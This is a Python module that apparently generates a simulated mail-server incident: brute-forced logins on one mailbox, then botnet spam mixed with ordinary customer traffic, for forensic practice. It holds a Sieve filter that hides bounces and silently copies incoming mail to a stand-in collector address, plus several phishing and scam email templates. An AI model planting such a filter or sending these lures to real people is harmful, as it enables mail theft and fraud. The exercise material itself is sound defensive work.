# SPDX-License-Identifier: GPL-3.0-or-later
"""Incident harbor: the password of one mailbox has been stolen; a botnet sends through submission until the provider blocks port 25."""
from server import Subscription
from town import Town, display, person, uuid, workHour, encoded, DAY
import hashlib

NAME = "harbor"
HOST = "vps4417.kaje-hosting.example"
IP = "203.0.113.44"
ZONE = 60
ZONENAME = "CET"
SESSIONS = {"office@nordkai.example": ["192.0.2.222", "203.0.113.17"], "service@brinewerk.example": ["203.0.113.71"]}
# What the thief left in the mailbox: bounces vanish and what comes in is copied away.
FILTERS = {"office@nordkai.example": {"roundcube": 'require ["fileinto", "copy"];\nif header :contains "subject" ["Undelivered", "Delivery Status"] {\n  discard;\n}\nredirect :copy "collect@dropbox.test";\n'}}
SEED = 4417
HANDLERS = "psa-pc-remote"
RELEASE = 'NAME="AlmaLinux"\nVERSION="9.4 (Seafoam Ocelot)"\nID="almalinux"\nID_LIKE="rhel centos fedora"\nVERSION_ID="9.4"\nPRETTY_NAME="AlmaLinux 9.4 (Seafoam Ocelot)"\n'
OS = "AlmaLinux 9.4 x86_64"
KERNEL = "5.14.0-427.42.1.el9_4.x86_64 #1 SMP PREEMPT_DYNAMIC Fri Nov 1 14:58:02 EDT 2024"
MAILVERSION = "3.5.25"
PHPZONE = "Europe/Berlin"
DAY1 = 1795042800  # Thu 19 Nov 2026 00:00 +0100
CUTS = (DAY1 + 6 * 3600 + 1503, DAY1 + DAY + 3 * 3600 + 847, DAY1 + 3 * DAY + 3 * 3600 + 852)
NOW = DAY1 + 3 * DAY + 17 * 3600 + 34 * 60 + 12
BLOCK = DAY1 + 3 * DAY + 15 * 3600 + 32 * 60 + 10
BREAKIN = DAY1 + 3 * DAY + 1 * 3600 + 47 * 60 + 33

STOLEN = "office@nordkai.example"
SUBSCRIPTIONS = [Subscription(10001, "nordkai", "nordkai.example"),
                 Subscription(10002, "tidechor", "tidewater-chor.example", "wordpress"),
                 Subscription(10003, "brinewerk", "brinewerk.example", "static", ["shop.brinewerk.example"]),
                 Subscription(10004, "mole", "mole-segeln.example", "wordpress"),
                 Subscription(10005, "kajuete", "kajuete.example")]
MAILBOXES = ["office@nordkai.example", "anna.brandt@nordkai.example", "lager@nordkai.example", "vorstand@tidewater-chor.example",
             "noten@tidewater-chor.example", "service@brinewerk.example", "newsletter@brinewerk.example", "lena.voss@brinewerk.example",
             "kasse@mole-segeln.example", "reservierung@kajuete.example", "chef@kajuete.example"]
FORWARDS = {"info@mole-segeln.example": "mole.segeln@freemail.example", "presse@tidewater-chor.example": "chor.presse@postfach.test"}
PHPLOG = {"brinewerk.example": "/var/www/vhosts/system/brinewerk.example/logs/php-mail.log"}

SPAM = [("Your parcel could not be delivered", "Dear customer,\n\nyour parcel is waiting at our depot because the customs fee of 1.99 is unpaid.\nConfirm your address within 24 hours:\n\nhttp://parcel-desk.{dom}/c/{tok}\n\nDelivery desk\n"),
        ("Payment advice {n}", "Hello,\n\nplease find the payment advice for invoice {n} under the link below.\nThe document is available for 48 hours.\n\nhttp://docs.{dom}/view/{tok}\n\nAccounts department\n"),
        ("Re: your account statement", "Good day,\n\nwe noticed an unusual sign-in to your account. Verify your details to avoid suspension:\n\nhttp://secure.{dom}/{tok}\n\nSecurity team\n"),
        ("Final reminder {n}", "Your subscription has been renewed for 399.00. If you did not order this, cancel here:\n\nhttp://cancel.{dom}/{tok}\n\nBilling\n"),
        ("I have your business proposal", "My dear friend,\n\nI am contacting you about a deposit of 4.5 million that I wish to place in your care.\nAnswer to my private address {who} for details.\n\nYours\n")]
FORGED = ["billing-desk.test", "parcelinfo.example", "noreply-service.test", "accounts-online.example", "bigmail.example", "webpost.test", "kontor-ost.test"]
HELOS = ["User", "WIN-{x}", "[127.0.0.1]", "[192.168.{a}.{b}]", "localhost", "DESKTOP-{x}", "ylmf-pc", "mail.{x}.test", "{x}"]
ISPS = ["dsl.telefon-{n}.test", "dyn.cable{n}.example", "mobile-{n}.carrier.test", "static.fiber{n}.example"]


def bots(rng, count):
    """Hosts all over the world; half of them have no name."""
    found = []
    for n in range(count):
        if n % 3 == 2:
            ip = "2001:db8:%x:%x::%x" % (rng.randrange(0x100, 0xffff), rng.randrange(1, 0xffff), rng.randrange(2, 0xffff))
        else:
            ip = rng.choice(["192.0.2.%d", "203.0.113.%d", "198.51.100.%d"]) % rng.randrange(181, 254)
        name = "unknown" if rng.random() < 0.5 else "h%d.%s" % (rng.randrange(1000, 9999), rng.choice(ISPS).replace("{n}", str(rng.randrange(1, 60))))
        found.append((name, ip))
    return found


def helo(rng, s):
    return rng.choice(HELOS).replace("{x}", s.letters(7).upper()).replace("{a}", str(rng.randrange(0, 9))).replace("{b}", str(rng.randrange(2, 99)))


def spam(at, s, bot, few):
    rng = s.rng
    subject, body = rng.choice(SPAM)
    number = str(rng.randrange(10000, 99999))
    sender = person(rng, rng.choice(FORGED)) if rng.random() < 0.85 else STOLEN
    count = 1 if few else rng.choice([1, 1, 1, 2, 2, 3, 5])
    recipients = sorted({person(rng) for _ in range(count)})
    if rng.random() < 0.06:
        recipients.append(person(rng, "gibtsnicht-%d.test" % rng.randrange(9)))
    body = body.replace("{dom}", rng.choice(FORGED)).replace("{tok}", hashlib.sha1(b"%f" % at).hexdigest()[:14]).replace("{n}", number).replace("{who}", person(rng))
    mid = ""
    shape = rng.random()
    if shape > 0.8:
        mid = "%s@%s" % (uuid(rng).upper(), sender.split("@")[1])
    elif shape > 0.62:
        mid = "%s$%08x$%s@%s" % ("%012x" % rng.randrange(2**44), rng.randrange(2**32), s.letters(6), rng.choice(["User", "mx", "server"]))
    elif shape > 0.5:
        mid = "%s@%s" % (hashlib.md5(b"%f" % (at + 1)).hexdigest(), sender.split("@")[1])
    head = (["Message-ID: <%s>" % mid] if mid else []) + ["From: \"%s\" <%s>" % (rng.choice(["Delivery Desk", "Accounts", "Support", "Service Team"]), sender),
            "To: " + (recipients[0] if rng.random() < 0.7 else "undisclosed-recipients:;"), "Subject: " + subject.replace("{n}", number), "Date: " + s.rfc5322(at - 40),
            "MIME-Version: 1.0", "Content-Type: text/plain; charset=\"%s\"" % rng.choice(["utf-8", "windows-1251", "iso-8859-1"]), "Content-Transfer-Encoding: 8bit",
            "X-Priority: 3", "X-Mailer: " + rng.choice(["Microsoft Outlook Express 6.00.2600.0000", "The Bat! (v3.99)", "Foxmail 7.2", "Microsoft Windows Live Mail 16.4"])]
    return s.smtp(at, bot, helo(rng, s), sender, recipients, head, body, mid, login=STOLEN, method="LOGIN",
                  service="submission/smtpd", vhost="nordkai.example", kind="spam")


def newsletter(at, town, to, number, total):
    s = town.s
    s_uid = SUBSCRIPTIONS[2]
    body = ("Moin!\n\nNeu im Laden: Salz aus dem Siedehaus, Jahrgang 2026, und die Winteroeffnungszeiten.\n\nhttps://shop.brinewerk.example/neu?m=%d\n\n"
            "Sie erhalten diese Nachricht, weil Sie sich angemeldet haben. Abmelden: https://brinewerk.example/abmelden?u=%s\n\nBrinewerk, Siedestr. 4\n"
            ) % (number, hashlib.sha1(to.encode()).hexdigest()[:20])
    extra = ["List-Unsubscribe: <https://brinewerk.example/abmelden?u=%s>," % hashlib.sha1(to.encode()).hexdigest()[:20], " <mailto:abmelden@brinewerk.example>",
             "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Id: Brinewerk Rundbrief <rundbrief.brinewerk.example>", "Precedence: bulk"]
    if number % 12 == 0:
        town.request(at - 0.4, "brinewerk.example", "203.0.113.71", "POST /rundbrief/senden.php?teil=%d HTTP/2.0" % (number // 12), 200, 311, "https://brinewerk.example/rundbrief/")
    town.phpMail(at, "brinewerk.example", s_uid.uid, s_uid.user, to, "Brinewerk Rundbrief %s: Winteröffnung" % ("November" if total > 100 else "Nachlese"), body,
                 s_uid.root(), sender="newsletter@brinewerk.example", extra=extra, envelope="newsletter@brinewerk.example", fromName="Brinewerk",
                 path=s_uid.root() + "/rundbrief/lib/PHPMailer.php")


def build(s):
    rng = s.rng
    town = Town(s, DAY1)
    town.phpLog = {d: [] for d in PHPLOG}
    s.localDomains = {d for sub in SUBSCRIPTIONS for d in sub.sites}
    s.forwards = dict(FORWARDS)
    s.blockedFrom = BLOCK
    office, officeName = "203.0.113.17", "p5-17.nordnetz.test"
    # Customers at work.
    town.writes("office@nordkai.example", office, officeName, 9, "submission/smtpd", town.days()[:2])
    town.writes("office@nordkai.example", office, officeName, 2, "submission/smtpd", town.days()[2:3])
    town.writes("anna.brandt@nordkai.example", office, officeName, 6, "submission/smtpd", town.days()[:2])
    town.writes("lena.voss@brinewerk.example", "203.0.113.71", "siedehaus.fiber.test", 6, "smtps/smtpd")
    town.writes("service@brinewerk.example", "203.0.113.71", "siedehaus.fiber.test", 5, "submission/smtpd")
    town.writes("reservierung@kajuete.example", "203.0.113.90", "kajuete.nordnetz.test", 7, "submission/smtpd")
    town.writes("noten@tidewater-chor.example", "", "", 2, webmail=True)
    town.writes("kasse@mole-segeln.example", "203.0.113.66", "dyn66.nordnetz.test", 2, "submission/smtpd")
    for box in MAILBOXES:
        town.gets(box, rng.choice([2, 3, 4]))
        town.reads(box, ["203.0.113.%d" % rng.randrange(60, 120)] * 3 + ["2001:db8:77::%x" % rng.randrange(2, 99)], 5, rng.choice(["imap", "imap", "pop3"]))
    for address in FORWARDS:
        town.gets(address, 3)
    town.noise(MAILBOXES, ["admin@nordkai.example", "test@kajuete.example", "info@brinewerk.example", "scanner", "webmaster@mole-segeln.example"], 24)
    town.cron("root", 0, "/usr/local/bin/backup-nightly", 2.5, "backup: 5 subscriptions saved, 0 errors\n")
    town.cron("root", 0, "/usr/bin/certbot -q renew", 4.2, "no renewals were attempted\n", DAY / 2)
    town.wordpress("tidewater-chor.example", 10002, "tidechor", "Tidewater Chor", "vorstand@tidewater-chor.example", SUBSCRIPTIONS[1].root(), 4)
    town.wordpress("mole-segeln.example", 10004, "mole", "Segelfreunde an der Mole", "mole.segeln@freemail.example", SUBSCRIPTIONS[3].root(), 3)
    for sub in SUBSCRIPTIONS:
        for site in sub.sites:
            town.visitors(site, ["/", "/kontakt/", "/termine/", "/impressum/", "/css/style.css"], 9)
    # The lawful newsletter: the whole list on Friday, the rest on Sunday afternoon, across the block.
    readers = sorted({person(rng) for _ in range(260)})
    for n, reader in enumerate(readers[:200]):
        s.at(DAY1 + DAY + 10 * 3600 + n * 5.0 + rng.random(), newsletter, town, reader, n, 200)
    for n, reader in enumerate(readers[200:]):
        s.at(DAY1 + 3 * DAY + 15.45 * 3600 + n * 10.0 + rng.random(), newsletter, town, reader, n, 60)
    # Deferred since before the break-in: a partner whose server is down, and a full mailbox.
    s.exchangers["reederei-falk.test"] = [("mx.reederei-falk.test", "198.51.100.176")]
    partner, full = "disposition@reederei-falk.test", "hafen.meister@rathaus.test"
    s.refusals[partner] = ("deferred", "host mx.reederei-falk.test[198.51.100.176] said: 450 4.3.2 Service currently unavailable (in reply to RCPT TO command)", "4.3.2")
    s.refusals[full] = ("deferred", "host mx.rathaus.test[198.51.100.88] said: 452 4.2.2 Mailbox full (in reply to RCPT TO command)", "4.2.2")
    s.at(DAY1 + DAY + 16.2 * 3600, town.writeOne, STOLEN, office, officeName, "submission/smtpd", False, [partner], "Lieferschein Winschen Pos. 4")
    s.at(DAY1 + 2 * DAY + 11.1 * 3600, town.writeOne, STOLEN, office, officeName, "submission/smtpd", False, [full], "Liegeplatz 14, Antrag")
    s.at(DAY1 + DAY + 17.4 * 3600, town.writeOne, "anna.brandt@nordkai.example", office, officeName, "submission/smtpd", False, [partner], "Rückfrage Frachtbrief")
    # Customers write on Sunday afternoon as well, and their mail waits behind the block.
    for n in range(34):
        box = rng.choice(["service@brinewerk.example", "lena.voss@brinewerk.example", "reservierung@kajuete.example", "kasse@mole-segeln.example", "noten@tidewater-chor.example"])
        where = {"kajuete": ("203.0.113.90", "kajuete.nordnetz.test"), "brinewerk": ("203.0.113.71", "siedehaus.fiber.test")}.get(
            box.split("@")[1].split(".")[0], ("203.0.113.66", "dyn66.nordnetz.test"))
        s.at(BLOCK - 900 + rng.uniform(0, 7600), town.writeOne, box, where[0], where[1], "submission/smtpd", box.startswith("noten"))
    for n in range(9):
        s.at(BLOCK + rng.uniform(60, 6500), town.getOne, rng.choice(list(FORWARDS)))
        s.at(BLOCK + rng.uniform(60, 6500), town.comment, "mole-segeln.example", 10004, "mole", "Segelfreunde an der Mole",
             "mole.segeln@freemail.example", SUBSCRIPTIONS[3].root())
    # The guessing: three nights, one account, many hosts; then it fits.
    hosts = bots(rng, 46)
    for n in range(70):
        s.at(BREAKIN - rng.uniform(40, 26 * 3600), s.failedLogin, rng.choice(hosts), STOLEN, True, "submission/smtpd")
    for n in range(6):
        s.at(BREAKIN - 240 + n * 38, s.failedLogin, hosts[0], STOLEN, True, "submission/smtpd", 9)
    s.at(BREAKIN, spam, s, hosts[0], True)
    s.at(BREAKIN + 900, spam, s, hosts[1], True)
    s.at(BREAKIN + 2700, s.dovecot, STOLEN, hosts[0][1], IP)
    # The wave: first careful, then everything at once.
    t = BREAKIN + 4200
    while t < DAY1 + 3 * DAY + 6 * 3600:
        s.at(t, spam, s, rng.choice(hosts), False)
        t += rng.expovariate(1 / 190)
    t = DAY1 + 3 * DAY + 13.2 * 3600
    while t < NOW - 4:
        s.at(t, spam, s, rng.choice(hosts), False)
        t += rng.expovariate(1 / (36 if t < BLOCK else 38))
    return town


PROVIDER = {"name": "Kaje Hosting", "domain": "kaje-hosting.example", "ids": "Message-ID: "}
